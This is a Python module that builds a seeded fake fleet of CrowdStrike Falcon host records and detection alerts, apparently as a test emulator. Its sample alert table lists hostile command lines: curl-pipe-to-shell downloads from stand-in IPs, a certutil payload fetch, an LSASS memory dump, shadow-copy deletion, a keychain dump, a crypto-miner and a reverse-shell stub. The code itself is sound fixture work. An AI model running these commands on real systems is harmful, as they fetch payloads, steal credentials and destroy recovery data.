"""Deterministic fleet generator: Falcon device records and alerts from a seed.

Record shapes follow the Falcon Hosts API (``GET /devices/entities/devices/v2``) and the Alerts
API (``POST /alerts/entities/alerts/v2``).  Identifiers, hostnames, platforms and the like are a
pure function of the seed; timestamps are relative to ``reference_time`` (default: now).
"""

from __future__ import annotations

import random
import threading
import time
from collections.abc import Callable, Iterable
from typing import Any

__all__ = ["Fleet", "fmt_ts", "severity_name"]


def fmt_ts(t: float) -> str:
    """Epoch seconds -> Falcon's ``2025-10-06T07:19:50Z`` form."""
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))


def fmt_ts_ms(t: float) -> str:
    """Epoch seconds -> ``2025-07-30T07:35:02.101Z`` (alert timestamps carry milliseconds)."""
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + f".{int(t * 1000) % 1000:03d}Z"


def severity_name(severity: int) -> str:
    # Falcon maps 30 -> Low and 70 -> High; the band edges are an (unverified) interpolation.
    if severity < 20:
        return "Informational"
    if severity < 40:
        return "Low"
    if severity < 60:
        return "Medium"
    if severity < 80:
        return "High"
    return "Critical"


_ALNUM = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"

# (os_version, os_product_name, kernel_version, product_type_desc, major, minor, build)
_WINDOWS = [
    ("Windows 10", "Windows 10 Enterprise", "10.0.19045.5371", "Workstation", "10", "0", "19045"),
    ("Windows 10", "Windows 10 Pro", "10.0.19044.4291", "Workstation", "10", "0", "19044"),
    ("Windows 11", "Windows 11 Enterprise", "10.0.22631.4602", "Workstation", "10", "0", "22631"),
    ("Windows 11", "Windows 11 Pro", "10.0.26100.2605", "Workstation", "10", "0", "26100"),
    ("Windows Server 2019", "Windows Server 2019 Standard", "10.0.17763.6659", "Server", "10", "0",
     "17763"),
    ("Windows Server 2022", "Windows Server 2022 Datacenter", "10.0.20348.2966", "Server", "10",
     "0", "20348"),
    ("Windows Server 2016", "Windows Server 2016 Standard", "10.0.14393.7606", "Server", "10", "0",
     "14393"),
]
_MAC = [
    ("Sonoma (14)", "macOS", "23.6.0", "Workstation", "23", "6", "23G93"),
    ("Sequoia (15)", "macOS", "24.2.0", "Workstation", "24", "2", "24C101"),
    ("Ventura (13)", "macOS", "22.6.0", "Workstation", "22", "6", "22G720"),
]
_LINUX = [
    ("Ubuntu 22.04", "Ubuntu 22.04.5 LTS", "5.15.0-127-generic", "Server", "5", "15", ""),
    ("Ubuntu 24.04", "Ubuntu 24.04.1 LTS", "6.8.0-51-generic", "Server", "6", "8", ""),
    ("RHEL 9.4", "Red Hat Enterprise Linux 9.4", "5.14.0-427.42.1.el9_4.x86_64", "Server", "5",
     "14", ""),
    ("RHEL 8.10", "Red Hat Enterprise Linux 8.10", "4.18.0-553.30.1.el8_10.x86_64", "Server", "4",
     "18", ""),
    ("Amazon Linux 2", "Amazon Linux 2", "5.10.230-223.885.amzn2.x86_64", "Server", "5", "10", ""),
    ("Debian 12", "Debian GNU/Linux 12", "6.1.0-28-amd64", "Server", "6", "1", ""),
]
_AGENT = {
    "Windows": ["7.28.18108.0", "7.27.17911.0", "7.26.17905.0", "7.24.17607.0", "7.20.17308.0"],
    "Mac": ["7.28.18203.0", "7.27.18008.0", "7.25.17804.0"],
    "Linux": ["7.28.18112.0", "7.26.17909.0", "7.23.17504.0", "7.18.17106.0"],
}
_PLATFORM_ID = {"Windows": "0", "Mac": "1", "Linux": "3"}
_TAGS = ["prod", "dev", "staging", "pci", "dmz", "finance", "eng", "vip", "kiosk", "soc"]
_SERVER_ROLES = ["web", "db", "app", "api", "cache", "mq", "files", "dc", "exch", "jump", "build"]
_USERS = ["jsmith", "akumar", "mgarcia", "lchen", "tnguyen", "rbrown", "ewilson", "dmiller",
          "sjones", "pdavis", "kmartin", "olee", "htaylor", "banderson", "cthomas"]
_DOMAINS = ["corp.example.com", "ad.example.net", ""]
_MANUF = [("Dell Inc.", "Latitude 7440"), ("LENOVO", "20XW0026US"), ("HP", "HP EliteBook 840 G9"),
          ("VMware, Inc.", "VMware Virtual Platform"), ("Microsoft Corporation", "Virtual Machine"),
          ("Amazon EC2", "m5.large")]

# Real ATT&CK tactic/technique pairs (plus CrowdStrike's own "Machine Learning" tactic).
_ATTACK = [
    ("Execution", "TA0002", "PowerShell", "T1059.001", "W"),
    ("Execution", "TA0002", "Windows Command Shell", "T1059.003", "W"),
    ("Execution", "TA0002", "Unix Shell", "T1059.004", "LM"),
    ("Execution", "TA0002", "AppleScript", "T1059.002", "M"),
    ("Persistence", "TA0003", "Scheduled Task", "T1053.005", "W"),
    ("Persistence", "TA0003", "Cron", "T1053.003", "L"),
    ("Persistence", "TA0003", "Registry Run Keys / Startup Folder", "T1547.001", "W"),
    ("Persistence", "TA0003", "Launch Agent", "T1543.001", "M"),
    ("Privilege Escalation", "TA0004", "Process Injection", "T1055", "W"),
    ("Privilege Escalation", "TA0004", "Sudo and Sudo Caching", "T1548.003", "LM"),
    ("Defense Evasion", "TA0005", "Disable or Modify Tools", "T1562.001", "WLM"),
    ("Defense Evasion", "TA0005", "Rundll32", "T1218.011", "W"),
    ("Defense Evasion", "TA0005", "File Deletion", "T1070.004", "WLM"),
    ("Credential Access", "TA0006", "LSASS Memory", "T1003.001", "W"),
    ("Credential Access", "TA0006", "/etc/passwd and /etc/shadow", "T1003.008", "L"),
    ("Credential Access", "TA0006", "Keychain", "T1555.001", "M"),
    ("Discovery", "TA0007", "System Information Discovery", "T1082", "WLM"),
    ("Discovery", "TA0007", "Remote System Discovery", "T1018", "WL"),
    ("Lateral Movement", "TA0008", "SMB/Windows Admin Shares", "T1021.002", "W"),
    ("Lateral Movement", "TA0008", "SSH", "T1021.004", "LM"),
    ("Command and Control", "TA0011", "Ingress Tool Transfer", "T1105", "WLM"),
    ("Command and Control", "TA0011", "Web Protocols", "T1071.001", "WLM"),
    ("Exfiltration", "TA0010", "Exfiltration Over C2 Channel", "T1041", "WLM"),
    ("Impact", "TA0040", "Data Encrypted for Impact", "T1486", "WL"),
    ("Impact", "TA0040", "Inhibit System Recovery", "T1490", "W"),
    ("Machine Learning", "CSTA0004", "Sensor-based ML", "CST0007", "WLM"),
    ("Machine Learning", "CSTA0004", "Cloud-based ML", "CST0008", "WLM"),
]
# platform letter -> list of (filename, filepath, cmdline template)
_FILES = {
    "W": [
        ("powershell.exe",
         "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\",
         "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        ("cmd.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\",
         "cmd.exe /c whoami /all > %TEMP%\\w.txt"),
        ("rundll32.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\",
         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\temp\\l.dmp full"),
        ("schtasks.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\",
         "schtasks /create /sc minute /mo 15 /tn Updater /tr C:\\Users\\Public\\upd.exe"),
        ("vssadmin.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\",
         "vssadmin.exe delete shadows /all /quiet"),
        ("invoice_0423.exe", "\\Device\\HarddiskVolume3\\Users\\{user}\\Downloads\\",
         "\"C:\\Users\\{user}\\Downloads\\invoice_0423.exe\""),
        ("certutil.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\",
         "certutil.exe -urlcache -split -f http://198.51.100.23/a.bin C:\\Users\\Public\\a.bin"),
    ],
    "L": [
        ("bash", "/usr/bin/", "bash -c 'curl -s http://198.51.100.23/x.sh | sh'"),
        ("curl", "/usr/bin/", "curl -fsSL -o /tmp/.x http://203.0.113.50/k"),
        ("python3", "/usr/bin/", "python3 -c 'import socket,subprocess,os;s=socket.socket()'"),
        ("xmrig", "/dev/shm/.x/",  # noqa: S108 - sample alert data
         "/dev/shm/.x/xmrig -o pool.example.net:3333 --donate-level 1"),  # noqa: S108
        ("crontab", "/usr/bin/", "crontab -l"),
    ],
    "M": [
        ("osascript", "/usr/bin/", "osascript -e 'display dialog \"Update required\"'"),
        ("bash", "/bin/", "/bin/bash -c 'curl -s http://203.0.113.9/i | bash'"),
        ("security", "/usr/bin/", "security dump-keychain -d login.keychain"),
        ("UpdateHelper", "/Users/{user}/Library/Application Support/.helper/", "UpdateHelper -d"),
    ],
}
_ALERT_STATUS = ["new"] * 10 + ["in_progress"] * 4 + ["closed"] * 5 + ["reopened"]
_SEVERITIES = [10, 30, 30, 50, 50, 70, 70, 90]


_B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"


def _b32(rng: random.Random, n: int) -> str:
    """n random characters from the base32 alphabet (A-Z, 2-7): hostname/serial suffixes."""
    bits = rng.getrandbits(5 * n)
    return "".join([_B32[(bits >> (5 * i)) & 31] for i in range(n)])


class Fleet:
    """The emulated fleet.

    ``hosts`` is the list of Falcon device records (exactly as the API returns them),
    ``alerts`` the list of alert records.  Internal state (online, containment timing) lives
    beside the records, not in them.
    """

    def __init__(self, hosts: int = 50, seed: int = 1,
                 reference_time: float | None = None) -> None:
        self.seed = seed
        self.reference_time = time.time() if reference_time is None else reference_time
        self._rng = random.Random(seed)
        self.cid = f"{self._rng.getrandbits(128):032x}"
        self.lock = threading.RLock()
        self._hosts: list[dict[str, Any]] = []
        self.by_id: dict[str, dict[str, Any]] = {}
        self.online: dict[str, bool] = {}
        # epoch seconds the host (last) came online; -inf for "always"
        self.online_since: dict[str, float] = {}
        self._alerts: list[dict[str, Any]] = []
        self._alerts_by_id: dict[str, dict[str, Any]] = {}
        self._alerts_generated = False
        self._settle: Callable[[], None] | None = None
        self._alert_seq = 0
        self._last_seen_num: dict[str, float] = {}
        self._generate(hosts)

    # -- access --------------------------------------------------------------------------

    @property
    def hosts(self) -> list[dict[str, Any]]:
        """All device records (pending containment transitions applied first)."""
        if self._settle is not None:
            self._settle()
        return self._hosts

    def raw_hosts(self) -> list[dict[str, Any]]:
        return self._hosts

    def hostname_index(self) -> dict[str, list[tuple[int, dict[str, Any]]]]:
        """Lower-cased hostname -> (fleet position, record); rebuilt when hosts change."""
        hosts = self.hosts
        key = (len(hosts), id(hosts))
        if getattr(self, "_index_key", None) != key:
            index: dict[str, list[tuple[int, dict[str, Any]]]] = {}
            for pos, rec in enumerate(hosts):
                index.setdefault(str(rec.get("hostname", "")).lower(), []).append((pos, rec))
            self._index = index
            self._index_key = key
        return self._index

    def get(self, aid: str) -> dict[str, Any] | None:
        if self._settle is not None:
            self._settle()
        return self.by_id.get(aid)

    @property
    def alerts(self) -> list[dict[str, Any]]:
        """All alert records (generated on first access, deterministically from the seed)."""
        if not self._alerts_generated:
            self._generate_alerts()
        return self._alerts

    @property
    def alerts_by_id(self) -> dict[str, dict[str, Any]]:
        if not self._alerts_generated:
            self._generate_alerts()
        return self._alerts_by_id

    def _generate_alerts(self) -> None:
        with self.lock:
            if self._alerts_generated:
                return
            rng = random.Random(f"{self.seed}:alerts")
            # alerts: roughly one host in four has some
            for h in self._hosts[: self._initial_count]:
                if rng.random() < 0.25:
                    for _ in range(1 + int(rng.expovariate(0.8))):
                        self._make_alert(rng, h, {})
            self._alerts_generated = True

    def alerts_for(self, aid: str) -> list[dict[str, Any]]:
        return [a for a in self.alerts if a["agent_id"] == aid]

    # -- generation ----------------------------------------------------------------------

    def _generate(self, n: int) -> None:
        rng = self._rng
        now = self.reference_time
        role_counters: dict[str, int] = {}
        for _ in range(n):
            self._hosts.append(self._make_host(rng, now, role_counters, {}))
        # A few hostnames duplicated across devices (re-imaged machines: the old record keeps
        # an older last_seen) and a few that differ only in case.
        if n >= 4:
            ndup = max(1, n // 100)
            for _ in range(ndup):
                src, dst = rng.sample(range(n), 2)
                a, b = self._hosts[src], self._hosts[dst]
                if a["platform_name"] != b["platform_name"]:
                    continue
                b["hostname"] = a["hostname"]
                older = self._last_seen_num[a["device_id"]] - rng.uniform(3, 40) * 86400
                self._last_seen_num[b["device_id"]] = older
                b["last_seen"] = fmt_ts(older)
                self.online[b["device_id"]] = False
            ncase = max(1, n // 200)
            for _ in range(ncase):
                src, dst = rng.sample(range(n), 2)
                a, b = self._hosts[src], self._hosts[dst]
                name = a["hostname"]
                swapped = name.swapcase() if name.swapcase() != name else name + "-x"
                b["hostname"] = swapped
        for h in self._hosts:
            self.by_id[h["device_id"]] = h
        self._initial_count = len(self._hosts)

    @staticmethod
    def _ts(s: str) -> float:
        import calendar

        return float(calendar.timegm(time.strptime(s[:19], "%Y-%m-%dT%H:%M:%S")))

    def _make_host(self, rng: random.Random, now: float, role_counters: dict[str, int],
                   fields: dict[str, Any]) -> dict[str, Any]:
        aid = fields.get("device_id") or f"{rng.getrandbits(128):032x}"
        rnd = rng.random

        def pick(seq: Any) -> Any:
            return seq[int(rnd() * len(seq))]

        def below(k: int) -> int:
            return int(rnd() * k)

        r = rnd()
        platform = fields.get("platform_name") or (
            "Windows" if r < 0.6 else ("Linux" if r < 0.85 else "Mac"))
        if platform == "Windows":
            osv = pick(_WINDOWS)
        elif platform == "Mac":
            osv = pick(_MAC)
        else:
            osv = pick(_LINUX)
        os_version, product, kernel, ptype, major, minor, build = osv
        user = pick(_USERS)
        if "hostname" in fields:
            hostname = fields["hostname"]
        elif platform == "Mac":
            hostname = (f"mac-{user}-{rng.getrandbits(16):04x}" if rnd() < 0.9
                        else f"{user.capitalize()}s-MacBook-Pro")
        elif ptype == "Server" or platform == "Linux":
            role = pick(_SERVER_ROLES)
            k = role_counters.get(role, 0) + 1
            role_counters[role] = k
            if platform == "Linux":
                style = rnd()
                if style < 0.4:
                    hostname = f"{role}-{k:02d}"
                elif style < 0.7:
                    hostname = "LNX-" + _b32(rng, 6)
                else:
                    hostname = f"ip-10-{below(256)}-{below(256)}-{(1 + below(255 - 1))}"
            else:
                hostname = (f"{role.upper()}-{k:02d}" if rnd() < 0.5
                            else f"SRV-{role.upper()}{k:02d}")
        else:
            prefix = pick(["WIN-", "DESKTOP-", "LAPTOP-"])
            hostname = prefix + _b32(rng, 7)
        online = rnd() >= 0.10
        if online:
            last_seen = now - rng.uniform(0, 900)
        else:
            last_seen = now - rng.uniform(2 * 3600, 42 * 86400)
        first_seen = last_seen - rng.uniform(5 * 86400, 540 * 86400)
        status = "contained" if rnd() < 0.03 else "normal"
        local_ip = (f"10.{below(256)}.{below(256)}.{(1 + below(255 - 1))}"
                    if rnd() < 0.8 else f"192.168.{below(256)}.{(1 + below(255 - 1))}")
        ext_net = pick(["203.0.113", "198.51.100", "192.0.2"])
        mac = rng.getrandbits(48).to_bytes(6, "big").hex("-")
        tags = [f"FalconGroupingTags/{t}" for t in rng.sample(_TAGS, pick((0, 1, 1, 2, 3)))]
        manuf, model = pick(_MANUF)
        agent_version = pick(_AGENT[platform])
        pol = f"{rng.getrandbits(128):032x}"
        su_pol = f"{rng.getrandbits(128):032x}"
        rr_pol = f"{rng.getrandbits(128):032x}"
        domain = pick(_DOMAINS) if platform == "Windows" else ""
        ls_text = fmt_ts(last_seen)
        fs_text = fmt_ts(first_seen)
        self._last_seen_num[aid] = last_seen
        rec: dict[str, Any] = {
            "device_id": aid,
            "cid": self.cid,
            "agent_load_flags": "0",
            "agent_local_time": ls_text,
            "agent_version": agent_version,
            "bios_manufacturer": manuf,
            "bios_version": f"{(1 + below(3 - 1))}.{below(30)}.{below(10)}",
            "config_id_base": "65994763",
            "config_id_build": agent_version.split(".")[2],
            "config_id_platform": _PLATFORM_ID[platform],
            "cpu_signature": str(pick([460401, 526017, 591594, 198372])),
            "external_ip": f"{ext_net}.{(1 + below(255 - 1))}",
            "mac_address": mac,
            "connection_ip": local_ip,
            "connection_mac_address": mac,
            "default_gateway_ip": local_ip.rsplit(".", 1)[0] + ".1",
            "hostname": hostname,
            "first_seen": fs_text,
            "last_seen": ls_text,
            "local_ip": local_ip,
            "machine_domain": domain,
            "major_version": major,
            "minor_version": minor,
            "os_version": os_version,
            "os_build": build,
            "os_product_name": product,
            "kernel_version": kernel,
            "platform_id": _PLATFORM_ID[platform],
            "platform_name": platform,
            "product_type_desc": ptype,
            "provision_status": "Provisioned",
            "reduced_functionality_mode": "no",
            "serial_number": _b32(rng, 10),
            "status": status,
            "system_manufacturer": manuf,
            "system_product_name": model,
            "tags": tags,
            "groups": [],
            "policies": [{"policy_type": "prevention", "policy_id": pol, "applied": True,
                          "settings_hash": f"{rng.getrandbits(32):08x}",
                          "assigned_date": fs_text, "applied_date": fs_text}],
            "device_policies": {
                "prevention": {"policy_type": "prevention", "policy_id": pol, "applied": True},
                "sensor_update": {"policy_type": "sensor-update", "policy_id": su_pol,
                                  "applied": True},
                "remote_response": {"policy_type": "remote-response", "policy_id": rr_pol,
                                    "applied": True},
            },
            "filesystem_containment_status": "normal",
            "modified_timestamp": ls_text,
            "meta": {"version": str(2 + below(898))},
        }
        if platform == "Windows" and rnd() < 0.8:
            rec["last_login_user"] = f"{domain.split('.')[0].upper() or 'WORKGROUP'}\\{user}"
        elif platform != "Windows":
            rec["last_login_user"] = user if platform == "Mac" else "root"
        online = fields.pop("_online", online)
        rec.update(fields)
        self.online[aid] = bool(online)
        self.online_since[aid] = float("-inf")
        return rec

    def add_host(self, **fields: Any) -> dict[str, Any]:
        with self.lock:
            rng = random.Random(f"{self.seed}:{len(self._hosts)}:{fields.get('hostname', '')}")
            if "online" in fields:
                fields["_online"] = fields.pop("online")
            rec = self._make_host(rng, time.time(), {}, dict(fields))
            if rec["device_id"] in self.by_id:
                raise ValueError(f"duplicate device_id {rec['device_id']}")
            self._hosts.append(rec)
            self.by_id[rec["device_id"]] = rec
            return rec

    def _make_alert(self, rng: random.Random, host: dict[str, Any],
                    fields: dict[str, Any]) -> dict[str, Any]:
        letter = host["platform_name"][0] if host["platform_name"] in ("Windows", "Mac") else "L"
        pairs = [p for p in _ATTACK if letter in p[4]]
        tactic, tactic_id, technique, technique_id, _ = rng.choice(pairs)
        filename, filepath, cmdline = rng.choice(_FILES[letter])
        user = host.get("last_login_user", "SYSTEM").split("\\")[-1]
        filepath = filepath.replace("{user}", user)
        cmdline = cmdline.replace("{user}", user)
        self._alert_seq += 1
        n1 = rng.randrange(1000000, 9999999)
        pattern = rng.randrange(10000, 60000)
        n2 = rng.randrange(1, 5000)
        aid = host["device_id"]
        alert_id = f"ind:{aid}:{n1}-{pattern}-{n2}"
        composite = f"{self.cid}:{alert_id}"
        base = self._last_seen_num.get(aid)
        if base is None:
            base = self._ts(host["last_seen"])
        ts = base - rng.uniform(0, 30 * 86400)
        severity = rng.choice(_SEVERITIES) + rng.randrange(-5, 6)
        severity = max(1, min(100, severity))
        created = ts + rng.uniform(5, 120)
        display = technique.replace(" ", "").replace("/", "")
        alert: dict[str, Any] = {
            "composite_id": composite,
            "id": alert_id,
            "aggregate_id": f"aggind:{aid}:{rng.getrandbits(40)}",
            "agent_id": aid,
            "cid": self.cid,
            "type": "ldt",
            "product": "epp",
            "platform": host["platform_name"],
            "timestamp": fmt_ts_ms(ts),
            "created_timestamp": fmt_ts_ms(created),
            "updated_timestamp": fmt_ts_ms(created + rng.uniform(0, 3600)),
            "crawled_timestamp": fmt_ts_ms(created + 1),
            "severity": severity,
            "severity_name": severity_name(severity),
            "confidence": rng.choice([10, 30, 50, 80, 100]),
            "tactic": tactic,
            "tactic_id": tactic_id,
            "technique": technique,
            "technique_id": technique_id,
            "objective": rng.choice(["Falcon Detection Method", "Follow Through", "Gain Access",
                                     "Keep Access", "Explore", "Contact Controlled Systems"]),
            "name": display,
            "display_name": display,
            "description": f"A process exhibited behavior consistent with {technique} "
                           f"({technique_id}). Review the process tree.",
            "pattern_id": pattern,
            "filename": filename,
            "filepath": filepath + filename,
            "cmdline": cmdline,
            "sha256": f"{rng.getrandbits(256):064x}",
            "md5": f"{rng.getrandbits(128):032x}",
            "user_name": user,
            "status": rng.choice(_ALERT_STATUS),
            "show_in_ui": True,
            "parent_details": {
                "filename": "explorer.exe" if letter == "W" else "bash",
                "cmdline": "C:\\Windows\\Explorer.EXE" if letter == "W" else "-bash",
                "sha256": f"{rng.getrandbits(256):064x}",
            },
            "mitre_attack": [{"tactic_id": tactic_id, "tactic": tactic,
                              "technique_id": technique_id, "technique": technique}],
            "device": {k: host.get(k) for k in (
                "device_id", "hostname", "platform_name", "os_version", "local_ip",
                "external_ip", "mac_address", "agent_version", "status", "tags",
                "machine_domain", "product_type_desc")},
            "falcon_host_link": "https://falcon.crowdstrike.com/activity-v2/detections/"
                                f"{self.cid}:{alert_id}",
        }
        alert.update(fields)
        self._alerts.append(alert)
        self._alerts_by_id[alert["composite_id"]] = alert
        return alert

    def add_alert(self, aid: str, **fields: Any) -> dict[str, Any]:
        with self.lock:
            host = self.by_id.get(aid)
            if host is None:
                raise KeyError(f"unknown device_id {aid}")
            if not self._alerts_generated:
                self._generate_alerts()
            rng = random.Random(f"{self.seed}:alert:{len(self.alerts)}")
            if "severity" in fields and "severity_name" not in fields:
                fields["severity_name"] = severity_name(int(fields["severity"]))
            return self._make_alert(rng, host, dict(fields))

    def ids(self, items: Iterable[dict[str, Any]]) -> list[str]:
        return [h["device_id"] for h in items]
